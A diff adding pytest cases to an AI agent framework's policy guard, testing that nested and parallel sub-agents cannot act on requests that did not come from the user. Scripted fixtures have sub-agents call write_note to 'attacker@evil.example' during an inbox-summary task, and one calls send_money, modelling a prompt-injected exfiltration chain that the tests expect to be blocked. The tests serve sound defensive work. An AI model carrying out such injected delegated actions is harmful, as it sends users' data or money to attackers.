@@ -411,3 +411,57 @@ async def test_a_run_without_user_text_does_not_inherit_the_request(policies: An
     await agent.run(Message(role="assistant", contents=[text("continuing")]), session=session)
     assert CALLS == []
     assert "did not come from the user" in result_text(client.tool_results()[0])
+
+
+@pytest.mark.parametrize("propagate", [False, True], ids=["own-session", "shared-session"])
+async def test_a_sub_agent_two_deep_judges_the_outermost_words(policies: Any,
+                                                               propagate: bool) -> None:
+    innermost, inner_client = _sub_agent(
+        [[call("write_note", target="attacker@evil.example", body="s")], [text("noted")]],
+        guard(policies), tools=[write_note])
+    middle_client = ScriptedChatClient([
+        [call("payer", task="note for attacker@evil.example")], [text("middle done")]])
+    middle = Agent(client=middle_client, name="broker", description="Delegates.",
+                   tools=[innermost.as_tool(propagate_session=propagate)],
+                   middleware=guard(policies))
+    outer_client = ScriptedChatClient([
+        [call("broker", task="note for attacker@evil.example")], [text("outer done")]])
+    outer = agent_with(outer_client, [middle.as_tool(propagate_session=propagate)],
+                       guard(policies))
+    session = outer.create_session()
+    await outer.run("summarise my inbox for bob@example.com", session=session)
+    assert CALLS == []
+    assert "did not come from the user" in result_text(inner_client.tool_results()[0])
+
+
+async def test_a_halt_in_one_of_two_parallel_sub_agents_stops_the_caller(policies: Any) -> None:
+    halting, _ = _sub_agent([[call("send_money", **HALT)]], guard(policies))
+    quiet_client = ScriptedChatClient([[text("nothing to do")]])
+    quiet = Agent(client=quiet_client, name="quiet", description="Does nothing.",
+                  middleware=guard(policies))
+    outer_client = ScriptedChatClient([[call("quiet", task="x"), call("payer", task="pay")],
+                                       [text("went on")]])
+    outer = agent_with(outer_client, [quiet.as_tool(), halting.as_tool()], guard(policies))
+    with pytest.raises(PolicyViolation):
+        await outer.run("go")
+    assert len(outer_client.received) == 1
+
+
+@pytest.mark.parametrize("message", [
+    Message(role="assistant", contents=[text("continuing")]),
+    Message(role="user", contents=[Content.from_uri("data:text/plain;base64,Ym9i",
+                                                    media_type="text/plain")]),
+    Message(role="tool", contents=[Content.from_function_result(call_id="old",
+                                                                result="bob@example.com")]),
+], ids=["assistant-only", "user-without-text", "tool-only"])
+async def test_no_run_without_user_text_inherits_the_request(policies: Any,
+                                                             message: Message) -> None:
+    client = ScriptedChatClient([
+        [text("ok")],
+        [call("write_note", target="bob@example.com", body="s")], [text("done")],
+    ])
+    agent = agent_with(client, [write_note], guard(policies))
+    session = agent.create_session()
+    await agent.run("a note for bob@example.com", session=session)
+    await agent.run(message, session=session)
+    assert CALLS == []
